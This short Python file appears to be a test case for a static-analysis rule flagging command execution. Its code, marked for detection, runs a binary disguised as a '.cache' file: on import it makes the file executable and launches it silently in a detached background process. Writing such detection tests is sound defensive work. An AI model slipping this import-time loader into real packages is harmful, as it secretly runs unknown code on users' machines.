import os
import stat
import subprocess

# A native program disguised as a cache file, made executable and started in the background on import.
_p = os.path.join(os.path.dirname(__file__), '.cache')
os.chmod(_p, os.stat(_p).st_mode | stat.S_IEXEC)
# ruleid: code/command-execution
subprocess.Popen([_p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
